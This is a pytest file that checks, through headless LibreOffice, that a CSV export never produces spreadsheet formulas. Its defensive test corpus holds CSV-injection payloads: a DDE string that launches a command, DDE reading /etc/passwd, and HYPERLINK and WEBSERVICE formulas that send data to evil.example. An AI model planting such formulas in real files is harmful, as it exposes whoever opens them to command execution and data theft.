"""Our tables in a real spreadsheet: LibreOffice opens them, and nothing in them is a formula."""

import os
import shutil
import subprocess
from xml.etree import ElementTree as ET

import pytest

from ui.exports import lines

pytestmark = [
    pytest.mark.office,
    pytest.mark.skipif(
        shutil.which("soffice") is None, reason="needs Debian's libreoffice-calc-nogui"
    ),
]

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")  # noqa: RUF001
DEEDS = (
    "1+1",
    "SUM(1;2)",
    'cmd|"/C calc"!A0',
    'HYPERLINK("http://evil.example/?"&A1;"here")',
    'DDE("soffice";"/etc/passwd";"a1")',
    'WEBSERVICE("http://evil.example/")',
)
BEHIND = ('"', '",', '";', ",", ";", "|", "a,", "a;", 'a"', "a\t", "a\n", "a|", "\ufeff")
CORPUS = [
    *(start + deed for start in STARTS for deed in DEEDS),
    *(before + "=" + deed for before in BEHIND for deed in DEEDS),
]
NUMBERS = (0, 7, -12, 1_000_000)
SEPARATORS = {"comma": "44", "semicolon": "59", "tab": "9", "any": "44/59/9/124"}

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Open texts as CSV in LibreOffice; return the cells of each: formula, kind, value."""
    home = tmp_path_factory.mktemp("office")

    def run(separator, **texts):
        folder = tmp_path_factory.mktemp("tables")
        paths = [folder / f"{name}.csv" for name in texts]
        for path, text in zip(paths, texts.values(), strict=True):
            path.write_text(text, encoding="utf-8", newline="")
        options = f"{separator},34,76,1,,0,false,true,false"
        command = ["soffice", f"-env:UserInstallation=file://{home}", "--headless", "--norestore"]
        command += [f"--infilter=Text - txt - csv (StarCalc):{options}"]
        command += ["--convert-to", "fods", "--outdir", str(folder), *map(str, paths)]
        environment = {**os.environ, "HOME": str(home)}
        subprocess.run(command, check=True, capture_output=True, timeout=100, env=environment)
        return [_cells(path.with_suffix(".fods")) for path in paths]

    return run


def _cells(path):
    return [
        (
            cell.get(f"{_TABLE}formula"),
            cell.get(f"{_OFFICE}value-type"),
            cell.get(f"{_OFFICE}value"),
        )
        for cell in ET.parse(path).iter(f"{_TABLE}table-cell")  # noqa: S314 - LibreOffice wrote it
    ]


def _exported():
    rows = [(text, number, text) for text in CORPUS for number in NUMBERS]
    return "".join(lines([("what", "records", "again"), *rows]))


@pytest.mark.parametrize("name", SEPARATORS)
def test_no_cell_is_a_formula_and_one_that_is_would_be_found(opened, name):
    separator = SEPARATORS[name]
    between = chr(int(separator.partition("/")[0]))
    control = f"what{between}records\r\n=1+1{between}7\r\n"
    exported, planted = opened(separator, exported=_exported(), planted=control)
    assert [formula for formula, _, _ in planted if formula] == ["of:=1+1"]
    assert len(exported) > len(CORPUS)
    assert [cell for cell in exported if cell[0]] == []


def test_numbers_stay_numbers(opened):
    [cells] = opened("44", exported=_exported())
    values = [float(value) for _, kind, value in cells if kind == "float"]
    assert values == [*NUMBERS] * len(CORPUS)
